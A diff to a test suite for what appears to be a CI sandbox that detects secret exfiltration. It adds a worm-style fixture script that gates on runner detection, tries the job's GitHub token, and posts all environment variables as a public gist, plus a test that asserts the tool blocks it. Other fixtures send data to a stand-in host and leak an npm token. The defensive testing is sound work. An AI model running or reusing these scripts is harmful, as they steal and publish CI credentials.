@@ -103,6 +103,39 @@ print("secrets", len(found))
 urllib.request.urlopen("https://collector.exfil.test/mem", data=blob, timeout=20)
 """
 
+# The npm worms of 2025 (Shai-Hulud) try the stolen token on GitHub's API, then publish
+# what they stole as a public gist. This one first checks GitHub answers as it does on a
+# runner (a proverb from /zen, 403 from /user for the job's token), and stops if not.
+TOKEN_WORM = r"""
+import json, os, urllib.error, urllib.request
+
+def call(method, path, body=None, token=None):
+    headers = {"Accept": "application/vnd.github+json", "User-Agent": "worm"}
+    if token:
+        headers["Authorization"] = "Bearer " + token
+    data = json.dumps(body).encode() if body is not None else None
+    request = urllib.request.Request(os.environ["GITHUB_API_URL"] + path, data=data,
+                                     headers=headers, method=method)
+    try:
+        with urllib.request.urlopen(request, timeout=20) as answer:
+            return answer.status, answer.read()
+    except urllib.error.HTTPError as error:
+        return error.code, error.read()
+
+status, zen = call("GET", "/zen")
+print(f"zen={status}:{len(zen.strip())}")
+if status != 200 or not zen.strip():
+    raise SystemExit("not a runner")
+token = os.environ["GITHUB_TOKEN"]
+status, _ = call("GET", "/user", token=token)
+print(f"user={status}")
+status, repo = call("GET", "/repos/" + os.environ["GITHUB_REPOSITORY"], token=token)
+print(f"push={json.loads(repo)['permissions']['push']}")
+loot = {"files": {"env.json": {"content": json.dumps(dict(os.environ))}}, "public": True}
+status, gist = call("POST", "/gists", loot, token=token)
+print(f"gist={status}:{len(json.loads(gist)['id'])}")
+"""
+
 # What a CI-aware test suite does on a runner: git in the checkout, the job's variables
 # and event file, the process list, and a local echo server. It must stay clean, and
 # everything it looks at must be what a hosted runner shows.
@@ -414,6 +447,7 @@ req.end(process.env.NPM_TOKEN);
 CASES: dict[str, Case] = {
     "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
     "runner-memory": Case(scripted(), {"ci/test.sh": python(MEMORY_DUMP)}),
+    "token-worm": Case(scripted(), {"ci/test.sh": python(TOKEN_WORM)}),
     "looks-like-a-job": Case(
         scripted(), {"ci/test.sh": python(LOOKS_LIKE_A_JOB), "calc.py": CALC + "# v2\n"}
     ),
@@ -529,6 +563,25 @@ def test_scraping_the_runner_workers_memory_finds_decoys_and_blocks(reviews: Rev
     )
     assert set(item["decoy_seen"]) == {"RUNNER_WORKER_GITHUB_TOKEN", "RUNNER_WORKER_NPM_TOKEN"}
     assert item["decoy_where"] == ["body:base64"]
+    assert_whole(review)
+
+
+def test_a_worm_that_checks_githubs_answers_spends_the_token_and_blocks(reviews: Reviews) -> None:
+    review = reviews.get("token-worm")
+    assert_blocked(review, "decoy-egress")
+    out = said(review)
+    zen_status, zen_length = out["zen"].split(":")
+    # GitHub answered as on a runner, so the worm went on: its checks, then its gist.
+    assert (zen_status, int(zen_length) > 0) == ("200", True), out
+    assert (out["user"], out["push"], out["gist"]) == ("403", "True", "201:32"), out
+    (hit,) = findings(review, "decoy-egress")
+    by_url = {e["url"]: e for e in hit["evidence"]}
+    for path in ("/user", "/gists"):
+        item = by_url[f"https://api.github.com{path}"]
+        assert (item["host"], item["phase"]) == ("api.github.com", "test")
+        assert "GITHUB_TOKEN" in item["decoy_seen"], item
+        assert "header:plain" in item["decoy_where"], item
+    assert "body:plain" in by_url["https://api.github.com/gists"]["decoy_where"]
     assert_whole(review)
 
 
